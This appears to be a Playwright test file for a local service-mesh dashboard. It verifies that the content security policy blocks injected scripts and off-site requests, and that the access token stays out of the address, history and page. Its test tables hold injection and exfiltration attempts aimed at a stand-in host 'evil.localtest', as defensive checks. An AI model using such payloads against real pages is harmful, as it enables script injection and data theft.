"""What the page itself may do, and where its token is: in no address, no history, no text, and not with others."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import html5lib
import pytest
from dashboard_process import Dashboard, dashboard_process
from foreign_site import foreign_site
from looked_at import Looked, expect_complete
from playwright.sync_api import Browser, Page, expect
from served_mesh import ServedMesh, environment
from shop_window import expose_bookinfo

prepare = expose_bookinfo
Look = Callable[..., Looked]
PATHS = ("/", "/services?view=clusters", "/services/bookinfo/reviews", "/clusters", "/findings", "/topology")
REFUSED = "Open the address that the command printed"


def test_the_shell_holds_no_script_no_style_and_no_data(dashboard: Dashboard, browser: Browser) -> None:
    context = browser.new_context()
    answer = context.request.get(dashboard.at("/services/bookinfo/reviews"))
    text = answer.text()
    document = html5lib.parse(text, namespaceHTMLElements=False, treebuilder="etree")
    elements = list(document.iter())
    assert all(one.text is None or not one.text.strip() for one in elements if one.tag in ("script", "style"))
    assert {one.get("src") for one in elements if one.tag == "script"} == {"/static/app.js"}
    assert [name for one in elements for name in one.attrib if name.startswith("on") or name == "style"] == []
    assert "reviews" not in text
    assert dashboard.token not in text
    context.close()


@pytest.fixture(scope="module")
def page(browser: Browser, dashboard: Dashboard) -> Iterator[Page]:
    """A page that may complain: these tests break its rules."""
    context = browser.new_context()
    opened = context.new_page()
    opened.goto(dashboard.url)
    expect(opened.get_by_role("link", name="reviews.bookinfo.mesh.internal")).to_be_visible()
    yield opened
    context.close()


TRIES = {
    "text becomes markup": "document.body.innerHTML = '<p>x</p>'",
    "text becomes markup beside": "document.body.insertAdjacentHTML('beforeend', '<p>x</p>')",
    "text becomes a document": "new DOMParser().parseFromString('<p>x</p>', 'text/html')",
    "text becomes a function": "new Function('return 1')()",
    "text is evaluated": "(0, eval)('1')",
    "a timer runs text": "setTimeout('globalThis.hacked = 1', 0)",
    "a script comes from elsewhere": "document.createElement('script').src = 'http://evil.localtest/x.js'",
    "a worker comes from elsewhere": "new Worker('data:text/javascript,1')",
}


@pytest.mark.parametrize("name", TRIES)
def test_the_policy_forbids_even_our_own_script(page: Page, name: str) -> None:
    # In a task of its own: what the debugger itself evaluates may evaluate more.
    tried = f"""() => new Promise((resolve) => setTimeout(() => {{
      try {{ {TRIES[name]}; resolve("allowed"); }} catch (error) {{ resolve(error.name); }}
    }}))"""
    assert page.evaluate(tried) in ("TypeError", "EvalError", "SecurityError")


ELEMENTS = {
    "an inline script": """() => {
      const script = document.createElement("script");
      script.append("globalThis.hacked = 1");
      document.body.append(script);
    }""",
    "an inline handler": """() => {
      const link = document.createElement("a");
      try { link.setAttribute("onclick", "globalThis.hacked = 1"); } catch { return; }
      document.body.append(link);
      link.click();
    }""",
    "a link that is a script": """() => {
      const link = Object.assign(document.createElement("a"), {href: "javascript:globalThis.hacked=1"});
      document.body.append(link);
      link.click();
    }""",
}


@pytest.mark.parametrize("name", ELEMENTS)
def test_no_script_runs_that_is_not_a_file_of_ours(page: Page, name: str) -> None:
    try_it = f"() => {{ try {{ ({ELEMENTS[name]})(); }} catch (error) {{ return error.name; }} }}"
    page.evaluate(try_it)
    page.evaluate("() => new Promise((resolve) => requestAnimationFrame(resolve))")
    assert page.evaluate("() => globalThis.hacked") is None


ELSEWHERE = {
    "connect-src": "fetch('http://evil.localtest/', {mode: 'no-cors'})",
    "img-src": """new Promise((resolve, reject) => {
      Object.assign(new Image(), {onload: resolve, onerror: reject, src: 'http://evil.localtest/x.png'});
    })""",
    "form-action": """new Promise((resolve, reject) => {
      const form = Object.assign(document.createElement("form"), {action: 'http://evil.localtest/'});
      document.body.append(form);
      form.submit();
      setTimeout(reject, 100);
    })""",
}


@pytest.mark.parametrize("directive", ELSEWHERE)
def test_the_policy_forbids_to_send_anything_elsewhere(page: Page, directive: str) -> None:
    broken: str = page.evaluate(
        f"""async () => {{
          const broken = new Promise((resolve) => addEventListener("securitypolicyviolation", (event) =>
            resolve(event.effectiveDirective), {{once: true}}));
          try {{ await {ELSEWHERE[directive]}; return "sent"; }} catch {{ return await broken; }}
        }}"""
    )
    assert broken == directive


@pytest.mark.parametrize("path", PATHS)
def test_the_token_is_gone_from_the_address_at_once(look: Look, dashboard: Dashboard, path: str) -> None:
    looked = look(path)
    page = looked.page
    expect_complete(page)
    assert page.url == dashboard.at(path)
    assert page.evaluate("() => [history.length, document.referrer, document.cookie]") == [2, "", ""]
    assert dashboard.token not in page.content()
    assert dashboard.token not in json.dumps(page.evaluate("() => history.state"))
    assert dashboard.token not in page.title()
    assert looked.context.cookies() == []
    assert {urlsplit(url).fragment for url in looked.urls[1:]} == {""}


def test_it_is_sent_in_one_header_and_to_the_api_alone(look: Look, dashboard: Dashboard) -> None:
    looked = look("/")
    sent: list[tuple[str, dict[str, str]]] = []
    looked.page.on("request", lambda request: sent.append((request.url, request.headers)))
    looked.page.goto(dashboard.at("/clusters"))
    expect_complete(looked.page)
    for url, headers in sent:
        having = [name for name, value in headers.items() if dashboard.token in value]
        assert having == (["authorization"] if "/api/v1/" in url else [])
    assert any("/api/v1/clusters" in url for url, _ in sent)


def test_nothing_goes_anywhere_else_not_even_from_the_worker(browser: Browser, dashboard: Dashboard) -> None:
    """What is not for this machine goes to a proxy; it hears nothing until somebody asks for another host."""
    with foreign_site() as proxy:
        context = browser.new_context(proxy={"server": proxy.origin, "bypass": "127.0.0.1"})
        page = context.new_page()
        page.goto(dashboard.url)
        for path in PATHS:
            page.goto(dashboard.at(path))
            expect_complete(page)
            expect(page.get_by_text("Live", exact=True)).to_be_attached()
        assert proxy.asked == []
        page.goto("http://example.test/")
        assert proxy.asked != [], "it would have heard"
        context.close()


@pytest.mark.parametrize("fragment", ["", "#token=wrong", "#token=", "#other"])
def test_without_the_token_the_page_says_where_to_get_it_and_shows_nothing(
    look: Look, dashboard: Dashboard, fragment: str
) -> None:
    looked = look("/", expected=("status of 401",))
    page = looked.page
    expect_complete(page)
    page.evaluate("() => localStorage.clear()")
    stranger = looked.context.new_page()
    looked.watch(stranger)
    stranger.goto(dashboard.at(f"/services/bookinfo/reviews{fragment}"))
    expect(stranger.get_by_role("heading", level=1)).to_have_text(REFUSED)
    expect(stranger.get_by_text("mesh.internal")).to_have_count(0)
    assert "wrong" not in stranger.url
    assert stranger.evaluate("() => localStorage.getItem('meshglobal-token')") is None


def test_the_token_of_an_earlier_run_is_forgotten(browser: Browser, mesh: ServedMesh, tmp_path: Path) -> None:
    """The program is started anew at the same port: open pages say what to do, and the new address works."""
    options = (environment(mesh.kubeconfig), tmp_path, "--context", "cluster1", "--port")
    context = browser.new_context()
    page = context.new_page()
    with dashboard_process(*options, "0") as first:
        page.goto(first.url)
        expect(page.get_by_role("link", name="reviews.bookinfo.mesh.internal")).to_be_visible()
    expect(page.get_by_text("meshglobal dashboard was ended")).to_be_visible()
    with dashboard_process(*options, str(first.port)) as second:
        expect(page.get_by_role("heading", name=REFUSED)).to_be_visible()
        page.goto(second.url)
        expect(page.get_by_role("link", name="reviews.bookinfo.mesh.internal")).to_be_visible()
        expect(page.get_by_text("Live", exact=True)).to_be_visible()
        assert second.token != first.token
    context.close()


def test_ctrl_c_ends_it_while_pages_are_open_and_they_say_so(
    browser: Browser, mesh: ServedMesh, tmp_path: Path
) -> None:
    context = browser.new_context()
    page = context.new_page()
    with dashboard_process(environment(mesh.kubeconfig), tmp_path, "--context", "cluster1") as running:
        page.goto(running.url)
        expect(page.get_by_role("link", name="reviews.bookinfo.mesh.internal")).to_be_visible()
        assert running.interrupt() == 130
        ended = page.get_by_role("alert")
        expect(ended).to_contain_text("meshglobal dashboard was ended")
        expect(page.get_by_role("link", name="reviews.bookinfo.mesh.internal")).to_be_visible()
        expect(page.get_by_text("Live", exact=True)).to_have_count(0)
    context.close()
